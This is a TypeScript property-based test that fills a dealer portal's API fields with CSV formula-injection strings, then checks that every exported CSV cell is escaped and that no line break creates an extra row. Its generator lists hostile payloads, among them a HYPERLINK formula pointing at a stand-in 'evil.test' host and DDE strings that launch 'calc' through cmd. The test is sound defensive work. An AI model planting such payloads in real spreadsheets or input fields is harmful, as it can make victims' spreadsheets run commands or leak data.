// CSV cannot run formulas (issue 17 item 3), generated: every area is filled through the API with
// hostile text in every field a role may write (names, company names, comments, descriptions,
// Markdown, file names, phones, SKUs), each beginning with what a spreadsheet runs (`=`, `+`, `-`,
// `@`, a tab, a carriage return); nested values come with them (an order's document, a claim's
// files, a registration request's `same_tax_id`, a dealer's users). Then `?format=csv` of every list,
// as the staff and as the dealer, and every cell of every file: none may begin with what a
// spreadsheet runs (OWASP: such a cell carries a leading `'`). The files are read as a spreadsheet
// reads them (parseCsv: a new row at any CR, LF or CRLF outside quotes): a bare line break inside
// a value must not start a row whose first cell is a formula (issue 30 item 1).
import fc from 'fast-check';
import { areas } from '../areas';
import { parseCsv } from './parse-csv';
import { call, client, createTestApp, testDatabases, tokensFor, type Client, type TestApp } from './test-app';

/**
 * What a spreadsheet runs when a cell begins with it. A cell that is exactly a number (`-5`,
 * `-5,00`, from a number column: lib/csv.ts) is a number constant, not a formula.
 */
const RUNS_AS_FORMULA = /^(?!-\d+(,\d+)?$)[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** A text that begins with what a spreadsheet runs, then anything (quotes, `;`, line breaks), then a letter so it is never blank. */
const hostile = fc.tuple(
  fc.constantFrom('=', '+', '-', '@', '\t', '\r', '=HYPERLINK("http://evil.test?"&CHAR(104),"x")', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '=1;=2',
    // A formula after a bare line break, which would begin a row of its own; the fullwidth signs.
    'a\n=1+1', 'a\r+1+1', '\n-2+3', 'b\r\n@SUM(1)', '\uFF1D1+1', '\uFF0B1', '\uFF0D2+3', '\uFF20SUM(1)'),
  fc.string({ unit: fc.constantFrom(...'abя =+-@";,|!()\n\'\t'), maxLength: 12 }),
).map(([lead, rest]) => `${lead}${rest}x`);
/** A file name that begins like a formula (what lib/files.ts keeps of it still does). */
const hostileFile = fc.tuple(fc.constantFrom('=', '+', '-', '@'), fc.string({ unit: fc.constantFrom(...'abя=+-@(),;!'), maxLength: 10 }))
  .map(([lead, rest]) => `${lead}${rest}x.pdf`);
/** A phone that begins with `+` (dealers' and requests' pattern). */
const hostilePhone = fc.integer({ min: 10_000, max: 99_999_999 }).map((n) => `+7 (${n}) -1`);
/** A SKU that begins with `-` (the SKU pattern allows it). */
const hostileSku = fc.string({ unit: fc.constantFrom(...'abcXYZ019._/-'), maxLength: 10 }).map((rest) => `-${rest}`);

interface Hostile {
  text: string[];
  files: string[];
  phone: string;
  sku: string;
}
const hostileSet: fc.Arbitrary<Hostile> = fc.record({
  text: fc.array(hostile, { minLength: 40, maxLength: 40 }),
  files: fc.array(hostileFile, { minLength: 8, maxLength: 8 }),
  phone: hostilePhone,
  sku: hostileSku,
});

const pdf = (name: string) => ({ name, type: 'application/pdf', data: Buffer.from(`%PDF-1.4\n% ${name}\n%%EOF\n`) });

describe.each(testDatabases())('no CSV cell of any list runs as a formula, whatever was written (%s)', (kind) => {
  let t: TestApp;
  let admin: Client;
  let manager: Client;
  let dealer: Client;
  let dealerId = 0;
  let run = 0;
  beforeAll(async () => {
    const many = { max: 1_000_000, windowMs: 60_000 };
    t = await createTestApp(kind, { rateLimits: { login: many, refresh: many, restore: many, regreq: many }, uploadQuota: { filesPerDay: 100_000, mbPerDay: 100_000 } });
    admin = client(t.app, (await tokensFor(t.app, 'admin@demo.test')).access);
    manager = client(t.app, (await tokensFor(t.app, 'manager@demo.test')).access);
    dealer = client(t.app, (await tokensFor(t.app, 'dealer@demo.test')).access);
    dealerId = (await t.app.db.selectFrom('users').select('dealer_id').where('email', '=', 'dealer@demo.test').executeTakeFirstOrThrow()).dealer_id!;
  }, 60_000);
  afterAll(async () => { await t?.close(); });

  /** A write that must succeed. */
  const ok = async (answer: Promise<Awaited<ReturnType<typeof call>>>, what: string) => {
    const done = await answer;
    if (done.status !== 200 && done.status !== 201) throw new Error(`${what}: ${done.status} ${done.body}`);
    return done.json;
  };

  /** Every area filled with the hostile texts, as each role may write them. */
  async function fill(h: Hostile): Promise<void> {
    run += 1;
    let i = 0;
    const text = () => h.text[i++ % h.text.length];
    let f = 0;
    const file = () => pdf(h.files[f++ % h.files.length]);

    // Names that must be unique end with the run's number (shrinking repeats values).
    const group = await ok(admin.post('/api/dealergroups/', { name: `${text()} ${run}`, discount_percent: '5.00', description: text() }), 'group');
    const newDealer = await ok(admin.post('/api/dealers/', {
      name: `${text()} ${run}`, legal_name: text(), group: group.id, email: `d${run}@example.test`, phone: h.phone, address: text(),
    }), 'dealer');
    await ok(admin.post('/api/users/', { email: `u${run}@example.test`, first_name: text(), last_name: text(), role: 'dealer', dealer: newDealer.id }), 'user');
    // Two registration requests with one tax id: each names the other's company in same_tax_id.
    for (let k = 0; k < 2; k += 1) {
      const request = await ok(call(t.app, 'POST', '/api/regreq/', { body: {
        company_name: text(), tax_id: '7712345671', contact_name: text(), email: `r${run}-${k}@example.test`, phone: h.phone, comment: text(),
      } }), 'regreq');
      if (k === 1) await ok(manager.put(`/api/regreq/${request.id}/`, { status: 'rejected', decision_reason: text() }), 'regreq decision');
    }
    const product = await ok(admin.post('/api/products/', {
      sku: `${h.sku}${run}`, name: text(), description: text(), category: text(), unit: text().slice(0, 20), price: '10000.00', is_active: true,
    }), 'product');
    await ok(admin.post('/api/storeitem/create/', { product: product.id, warehouse: text(), quantity: 10 }), 'store item');
    const items = JSON.stringify([{ product: product.id, quantity: 1 }]);
    const order = await ok(dealer.form('POST', '/api/orders/', { items, comment: text() }, file()), 'order');
    const spare = await ok(dealer.form('POST', '/api/orders/', { items, comment: text() }, file()), 'spare order');
    await ok(dealer.form('POST', '/api/orderdelreq/', { order: String(spare.id), reason: text() }, file()), 'deletion request');
    await ok(admin.put(`/api/orders/${order.id}/`, { items: [{ product: product.id, quantity: 1 }], status: 'confirmed', comment: order.comment }), 'confirm');
    const parcel = await ok(admin.form('POST', '/api/shipping/create/', { order: String(order.id), carrier: text(), tracking_number: text() }, file()), 'shipping');
    await ok(admin.put(`/api/shippings/${parcel.id}/`, { order: order.id, status: 'in_transit', carrier: parcel.carrier, tracking_number: parcel.tracking_number }), 'ship');
    const claim = await ok(dealer.form('POST', '/api/claims/', {
      order: String(order.id), product: String(product.id), quantity: '1', description: text(),
    }, { ...file(), field: 'file' }), 'claim');
    await ok(dealer.form('POST', `/api/claims/${claim.id}/comments/`, { body: text() }, { ...file(), field: 'file' }), 'claim comment');
    await ok(admin.post('/api/newsletters/', { title: text(), body: text(), audience: null, published: true }), 'newsletter');
    await ok(dealer.form('POST', '/api/attachments/', { name: h.files[0], description: text() }, { ...file(), field: 'file' }), 'attachment (dealer)');
    await ok(admin.form('POST', '/api/attachments/', { description: text(), dealer: String(dealerId) }, { ...file(), field: 'file' }), 'attachment (staff)');
    await ok(admin.post('/api/variable/create/', { key: `csv_${kind}_${run}`, value: text(), description: text() }), 'variable');
  }

  /** Every list as the admin, and the dealer's own lists as the dealer. */
  const lists: Array<[string, () => Client]> = [
    ...areas.filter((area) => area.path !== '/dp/' && area.path !== '/news/').map((area): [string, () => Client] => [area.path, () => admin]),
    ...['/dp/', '/news/', '/orders/', '/orderdelreq/', '/shippings/', '/claims/', '/attachments/', '/dealers/', '/storeitems/'].map((path): [string, () => Client] => [path, () => dealer]),
  ];

  test('every cell of every list\'s CSV, after hostile text in every field', async () => {
    const escapedSeen = new Map<string, number>();
    await fc.assert(fc.asyncProperty(hostileSet, async (h) => {
      await fill(h);
      for (const [path, who] of lists) {
        const answer = await who().get(`/api${path}?format=csv`);
        if (answer.status !== 200) throw new Error(`${path}: ${answer.status} ${answer.body.slice(0, 200)}`);
        const rows = parseCsv(answer.body);
        for (const [r, row] of rows.entries()) {
          // No value broke out into a row of its own: every row has the header's columns.
          if (row.length !== rows[0].length) throw new Error(`${path} row ${r} has ${row.length} cells, the header ${rows[0].length}: ${JSON.stringify(row)}`);
          for (const [c, cell] of row.entries()) {
            if (RUNS_AS_FORMULA.test(cell)) throw new Error(`${path} row ${r} column ${rows[0][c]}: ${JSON.stringify(cell)}`);
            if (/^'[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell)) escapedSeen.set(path, (escapedSeen.get(path) ?? 0) + 1);
          }
        }
      }
    }), { numRuns: Number(process.env.CSV_INJECTION_RUNS ?? 4) });
    // The hostile text reached every list it can reach (the audit trail keeps no text of ours).
    const reached = lists.map(([path]) => path).filter((path) => path !== '/audit/');
    expect(reached.filter((path) => !escapedSeen.get(path))).toEqual([]);
  }, 600_000);
});
